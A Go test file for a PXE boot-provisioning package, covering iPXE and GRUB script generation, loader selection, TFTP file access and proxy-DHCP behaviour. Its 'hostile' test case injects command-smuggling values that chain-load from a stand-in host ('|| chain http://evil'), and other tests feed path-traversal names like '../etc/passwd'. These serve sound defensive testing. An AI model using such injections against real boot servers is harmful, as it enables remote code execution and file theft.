package bootplan

import (
	"context"
	"errors"
	"flag"
	"io"
	"io/fs"
	"log/slog"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"rackstrap/assets"
	"rackstrap/inventory"
	"rackstrap/lifecycle"
	"rackstrap/media"
)

var update = flag.Bool("update", false, "write the golden files anew")

var (
	macMaster  = inventory.MAC{0x52, 0x54, 0, 0, 0, 0x80}
	macNode    = inventory.MAC{0x52, 0x54, 0, 0, 0, 0x81}
	macUnknown = inventory.MAC{0x52, 0x54, 0, 0, 0, 0x99}
	ipMaster   = netip.MustParseAddr("10.10.10.80")
	ipNode     = netip.MustParseAddr("10.10.10.81")
	ipUnknown  = netip.MustParseAddr("10.10.10.200")
	ipStranger = netip.MustParseAddr("10.10.10.222")
)

const treeInfo = "[general]\nfamily = CentOS\nversion = 7\narch = x86_64\n" +
	"[images-x86_64]\nkernel = images/pxeboot/vmlinuz\ninitrd = images/pxeboot/initrd.img\n"

// medium is an unpacked tree of the layout of CentOS's ISO.
func medium(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range map[string]string{
		".treeinfo":                 treeInfo,
		"images/pxeboot/vmlinuz":    "the kernel",
		"images/pxeboot/initrd.img": "the initrd",
		"EFI/BOOT/BOOTX64.EFI":      "the shim",
		"EFI/BOOT/grubx64.efi":      "the grub",
		"Packages/secret.rpm":       "not by TFTP",
	} {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644))
	}
	return dir
}

func newPlan(t testing.TB, edit ...func(*inventory.Config)) (*Plan, *lifecycle.Rack) {
	t.Helper()
	install := inventory.Install{Attempts: 3, LocalBoot: inventory.LocalAuto, Medium: "centos-7.9", KernelArgs: []string{"console=ttyS0"}}
	dir := medium(t)
	cfg := &inventory.Config{
		Server: inventory.Server{Address: netip.MustParseAddr("10.10.10.1"), HTTPPort: 8080},
		Network: inventory.Network{
			Subnet: inventory.Subnet{Prefix: netip.MustParsePrefix("10.10.10.0/24")},
			DHCP:   inventory.DHCP{Mode: inventory.DHCPServer, Unknown: inventory.UnknownDiscover},
		},
		Media: []inventory.Medium{{Name: "centos-7.9", Dir: dir}},
		Machines: []inventory.Machine{
			{Name: "kmaster", MAC: macMaster, IP: ipMaster, Install: install},
			{Name: "knode1", MAC: macNode, IP: ipNode, Install: install},
		},
	}
	for _, e := range edit {
		e(cfg)
	}
	var specs []media.Spec
	for _, m := range cfg.Media {
		if m.URL == "" {
			specs = append(specs, media.Spec{Name: m.Name, Dir: m.Dir})
		}
	}
	library, err := media.OpenLibrary(specs)
	require.NoError(t, err)
	t.Cleanup(func() { library.Close() })
	now := time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)
	rack, err := lifecycle.New(context.Background(), cfg, lifecycle.Options{Store: lifecycle.NewMemoryStore(),
		Log: slog.New(slog.DiscardHandler), Now: func() time.Time { return now }})
	require.NoError(t, err)
	require.NoError(t, rack.Bind(context.Background(), lifecycle.Lease{IP: ipUnknown, MAC: macUnknown, State: lifecycle.LeaseBound, Expires: now.Add(time.Hour)}))
	for _, mac := range []inventory.MAC{macMaster, macNode} {
		rack.See(lifecycle.Sighting{MAC: mac, LastBoot: now})
	}
	loaders := assets.LoadersFrom(map[string][]byte{"undionly.kpxe": []byte("bios"), "snponly.efi": []byte("x64"), "grubnetia32.efi": []byte("ia32")})
	plan := New(rack, loaders, library)
	plan.SetNeighbours(func(ip netip.Addr) (inventory.MAC, bool) { // kmaster, with an address of another DHCP server
		return macMaster, ip == ipStranger
	})
	return plan, rack
}

func secureBoot(c *inventory.Config) { c.Machines[0].Install.SecureBoot = true }

func localBoot(how inventory.LocalBoot) func(*inventory.Config) {
	return func(c *inventory.Config) { c.Machines[0].Install.LocalBoot = how }
}

func TestGoldenScripts(t *testing.T) {
	adopt := func(r *lifecycle.Rack) error { _, err := r.Adopt(context.Background(), "kmaster"); return err }
	hold := func(r *lifecycle.Rack) error { _, err := r.Hold(context.Background(), "kmaster", "", ""); return err }
	hostile := func(r *lifecycle.Rack) error {
		r.See(lifecycle.Sighting{MAC: macUnknown, UUID: "$(reboot) || chain http://evil"})
		_, err := r.Fail(context.Background(), "kmaster", "${net0/x} || chain http://evil\nboot # \" `x`", false)
		return err
	}
	sameBoard := func(r *lifecycle.Rack) error {
		for _, mac := range []inventory.MAC{macMaster, macUnknown} {
			r.See(lifecycle.Sighting{MAC: mac, UUID: "4c4c4544-0042-3510-8054-b4c04f4a3132"})
		}
		return nil
	}
	for _, c := range []struct {
		name string
		mac  inventory.MAC
		edit func(*inventory.Config)
		do   func(*lifecycle.Rack) error
		from netip.Addr // whose address decides, too; the zero Addr: it does not
	}{
		{name: "install", mac: macMaster},
		{name: "install-mirror", mac: macMaster, edit: func(c *inventory.Config) {
			c.Media = []inventory.Medium{{Name: "centos-7.9", URL: "http://mirror.lan/centos/7.9.2009/os/x86_64/"}}
		}},
		{name: "discover", mac: macUnknown},
		{name: "ignore", mac: macUnknown, edit: func(c *inventory.Config) { c.Network.DHCP.Unknown = inventory.UnknownIgnore }},
		{name: "local-auto", mac: macMaster, do: adopt},
		{name: "local-exit", mac: macMaster, do: adopt, edit: localBoot(inventory.LocalExit)},
		{name: "local-sanboot", mac: macMaster, do: adopt, edit: localBoot(inventory.LocalSanboot)},
		{name: "local-grub", mac: macMaster, do: adopt, edit: localBoot(inventory.LocalGRUB)},
		{name: "hold", mac: macMaster, do: hold},
		{name: "hostile", mac: macMaster, do: hostile},
		{name: "hostile-unknown", mac: macUnknown, do: hostile},
		{name: "pass", mac: macUnknown, do: sameBoard},
		{name: "further-card", mac: macUnknown, do: func(r *lifecycle.Rack) error { return errors.Join(sameBoard(r), adopt(r)) }, edit: localBoot(inventory.LocalExit)},
		{name: "wait", mac: macMaster, from: ipStranger, edit: func(c *inventory.Config) { c.Network.DHCP.Mode = inventory.DHCPProxy }},
	} {
		t.Run(c.name, func(t *testing.T) {
			var edits []func(*inventory.Config)
			if c.edit != nil {
				edits = append(edits, c.edit)
			}
			plan, rack := newPlan(t, edits...)
			if c.do != nil {
				require.NoError(t, c.do(rack))
			}
			decision := rack.Decide(c.mac)
			if c.from.IsValid() {
				decision = plan.Decide(c.mac, c.from)
			}
			text, err := plan.IPXE(decision)
			require.NoError(t, err)
			golden(t, c.name+".ipxe", text)
			text, err = plan.GRUB(decision)
			if c.name == "install-mirror" {
				require.ErrorContains(t, err, "is elsewhere")
				return
			}
			require.NoError(t, err)
			golden(t, c.name+".grub", text)
		})
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.WriteFile(file, got, 0o644))
	}
	want, err := os.ReadFile(file)
	require.NoError(t, err)
	require.Equal(t, string(want), string(got))
}

// Invariant 1 of the design: every loader that DHCP can offer is served.
func TestEveryLoaderThatIsOfferedOpens(t *testing.T) {
	plan, rack := newPlan(t, secureBoot)
	offered := 0
	for _, fw := range assets.Firmwares() {
		for _, mac := range []inventory.MAC{macMaster, macNode, macUnknown} {
			name, err := plan.Loader(rack.Decide(mac), fw)
			if err != nil {
				var none *NoLoaderError
				require.ErrorAs(t, err, &none)
				continue
			}
			offered++
			for _, client := range []netip.Addr{ipMaster, ipNode, ipUnknown} {
				require.NotEmpty(t, read(t, plan, name, client))
			}
		}
	}
	require.Greater(t, offered, 10)
}

func read(t *testing.T, plan *Plan, name string, client netip.Addr) string {
	t.Helper()
	f, err := plan.Open(name, client)
	require.NoError(t, err, name)
	defer f.Close()
	text, err := io.ReadAll(f)
	require.NoError(t, err)
	require.Len(t, text, int(f.Size))
	return string(text)
}

func TestLoader(t *testing.T) {
	plan, rack := newPlan(t, secureBoot)
	for _, c := range []struct {
		mac     inventory.MAC
		fw      assets.Firmware
		want    string
		refusal string
	}{
		{macNode, assets.BIOS, "undionly.kpxe", ""},
		{macNode, assets.EFIX64, "snponly.efi", ""},
		{macNode, assets.HTTPX64, "snponly.efi", ""},
		{macNode, assets.EFIIA32, "grubnetia32.efi", ""},
		{macNode, assets.EFIARM64, "", "no loader for uefi-arm64"},
		{macNode, assets.Unsupported, "", "no loader for unsupported"},
		{macMaster, assets.EFIX64, "shim/centos-7.9/BOOTX64.EFI", ""},
		{macMaster, assets.HTTPX64, "shim/centos-7.9/BOOTX64.EFI", ""},
		{macMaster, assets.BIOS, "undionly.kpxe", ""}, // Secure Boot is a thing of UEFI
		{macMaster, assets.EFIARM64, "", "no shim"},
	} {
		name, err := plan.Loader(rack.Decide(c.mac), c.fw)
		require.Equal(t, c.want, name)
		if c.refusal != "" {
			require.ErrorContains(t, err, c.refusal)
		} else {
			require.NoError(t, err)
		}
	}
}

func TestOpen(t *testing.T) {
	plan, rack := newPlan(t, secureBoot, func(c *inventory.Config) { c.Machines[1].Install.LocalBoot = inventory.LocalSkip })
	require.Equal(t, "bios", read(t, plan, "/undionly.kpxe", ipMaster))
	require.Equal(t, "bios", read(t, plan, `\UNDIONLY.KPXE`, ipMaster))
	require.Equal(t, "the grub", read(t, plan, "shim/centos-7.9//grubx64.efi", ipMaster))
	require.Equal(t, "the kernel", read(t, plan, "media/centos-7.9/images/pxeboot/vmlinuz", ipMaster))
	for _, name := range []string{"grub/grub.cfg", "grub/host-52:54:00:00:00:80.cfg", "shim/centos-7.9/grub.cfg-01-52-54-00-00-00-80", "shim/centos-7.9/grub.cfg"} {
		require.Contains(t, read(t, plan, name, ipMaster), "inst.ks=http://10.10.10.1:8080/ks/52-54-00-00-00-80", name)
	}
	require.Contains(t, read(t, plan, "grub/grub.cfg", ipUnknown), "rackstrap approve")

	for name, want := range map[string]error{
		"nothing":                              fs.ErrNotExist,
		"shim/other/BOOTX64.EFI":               fs.ErrNotExist,
		"shim/centos-7.9/revocations_sbat.efi": fs.ErrNotExist,
		"grub/x86_64-efi/command.lst":          fs.ErrNotExist,
		"grub/host-zz.cfg":                     fs.ErrNotExist,
		"media/centos-7.9/Packages/secret.rpm": fs.ErrNotExist,
		"media/other/images/pxeboot/vmlinuz":   fs.ErrNotExist,
		"shim/centos-7.9":                      fs.ErrNotExist,
		"shim":                                 fs.ErrNotExist,
		"":                                     fs.ErrInvalid,
		"/":                                    fs.ErrInvalid,
		"../etc/passwd":                        fs.ErrInvalid,
		`..\..\etc\passwd`:                     fs.ErrInvalid,
		"shim/centos-7.9/../../../etc/passwd":  fs.ErrInvalid,
		"undionly.kpxe\x00.txt":                fs.ErrInvalid,
		"media/centos-7.9/images/pxeboot/vmlinuz/\xff": fs.ErrInvalid,
	} {
		_, err := plan.Open(name, ipMaster)
		require.ErrorIs(t, err, want, "%q", name)
	}

	var refused *Refusal
	_, err := plan.Open("undionly.kpxe", ipStranger)
	require.ErrorAs(t, err, &refused)
	_, err = plan.Open("grub/host-52:54:00:00:00:81.cfg", ipMaster)
	require.ErrorAs(t, err, &refused)
	require.Contains(t, refused.Reason, "belongs to 52:54:00:00:00:81")

	require.NotEmpty(t, read(t, plan, "undionly.kpxe", ipNode))
	_, err = rack.Adopt(t.Context(), "knode1")
	require.NoError(t, err)
	_, err = plan.Open("undionly.kpxe", ipNode)
	require.ErrorAs(t, err, &refused)
	require.Contains(t, refused.Reason, "local_boot: skip")
	_, err = plan.Loader(rack.Decide(macNode), assets.BIOS)
	require.EqualError(t, err, refused.Reason, "DHCP and TFTP say the same")
}

// In proxy mode addresses come from elsewhere: loaders are no secret, and GRUB names its MAC.
func TestProxyMode(t *testing.T) {
	plan, _ := newPlan(t, secureBoot, func(c *inventory.Config) { c.Network.DHCP.Mode = inventory.DHCPProxy })
	require.Equal(t, "bios", read(t, plan, "undionly.kpxe", ipStranger))
	require.Equal(t, "configfile /grub/host-$net_default_mac.cfg\n", read(t, plan, "grub/grub.cfg", ipStranger))
	require.Contains(t, read(t, plan, "grub/host-52:54:00:00:00:80.cfg", ipMaster), "/ks/52-54-00-00-00-80")
	wrong := read(t, plan, "grub/host-52:54:00:00:00:80.cfg", ipStranger)
	require.NotContains(t, wrong, "/ks/", "the kickstart is for the reserved address only")
	require.Contains(t, wrong, "kmaster waits: another DHCP server gave it 10.10.10.222, the list says 10.10.10.80")
}

func TestSecureBootDir(t *testing.T) {
	own := t.TempDir()
	for _, name := range []string{"shimx64.efi", "grubx64.efi"} {
		require.NoError(t, os.WriteFile(filepath.Join(own, name), []byte("own "+name), 0o644))
	}
	plan, rack := newPlan(t, secureBoot, func(c *inventory.Config) { c.Machines[0].Install.SecureBootDir = own })
	name, err := plan.Loader(rack.Decide(macMaster), assets.EFIX64)
	require.NoError(t, err)
	require.Equal(t, "own shimx64.efi", read(t, plan, name, ipMaster))
	require.Equal(t, "own grubx64.efi", read(t, plan, "shim/centos-7.9/grubx64.efi", ipMaster))
}

func TestFaultyMediumIsNoNotFound(t *testing.T) {
	plan, rack := newPlan(t)
	plan.SetLibrary(func() *media.Library {
		dir := t.TempDir()
		require.NoError(t, os.WriteFile(filepath.Join(dir, ".treeinfo"), []byte("rubbish"), 0o644))
		l, err := media.OpenLibrary([]media.Spec{{Name: "centos-7.9", Dir: dir}})
		require.NoError(t, err)
		return l
	}())
	_, err := plan.IPXE(rack.Decide(macMaster))
	require.ErrorContains(t, err, "kmaster: medium centos-7.9")
	require.False(t, errors.Is(err, fs.ErrNotExist))
}

func FuzzOpen(f *testing.F) {
	for _, seed := range []string{"undionly.kpxe", "shim/centos-7.9//grubx64.efi", "grub/host-52:54:00:00:00:80.cfg", `..\x`, "media/centos-7.9/.treeinfo", "shim/centos-7.9/grub.cfg-01-"} {
		f.Add(seed)
	}
	plan, _ := newPlan(f, secureBoot)
	f.Fuzz(func(t *testing.T, name string) {
		file, err := plan.Open(name, ipMaster)
		if err != nil {
			return
		}
		text, _ := io.ReadAll(file)
		file.Close()
		if strings.Contains(string(text), "not by TFTP") {
			t.Fatalf("%q opens a package", name)
		}
	})
}

// Anaconda hands inst.syslog to rsyslog as it is, so that it is host:port over TCP. What the operator adds comes last:
// the last of several wins.
func TestKernelArgs(t *testing.T) {
	s := inventory.Server{Address: netip.MustParseAddr("10.10.10.1"), HTTPPort: 8080, SyslogPort: 5514}
	m := inventory.Machine{MAC: macMaster, Install: inventory.Install{KernelArgs: []string{"inst.syslog=log.lab"}}}
	want := []string{"inst.ks=http://10.10.10.1:8080/ks/52-54-00-00-00-80/TICKET", "inst.stage2=http://10.10.10.1:8080/media/c7", "BOOTIF=01-52-54-00-00-00-80",
		"ip=dhcp", "inst.ks.sendmac", "inst.ks.sendsn", "inst.nosave=all_ks", "inst.cmdline", "inst.syslog=10.10.10.1:5514", "inst.syslog=log.lab"}
	require.Equal(t, want, KernelArgs(s, m, inventory.Medium{Name: "c7"}, "TICKET"))
	s.SyslogPort = 0
	require.NotContains(t, KernelArgs(s, m, inventory.Medium{Name: "c7"}, "TICKET"), "inst.syslog=10.10.10.1:5514")
}
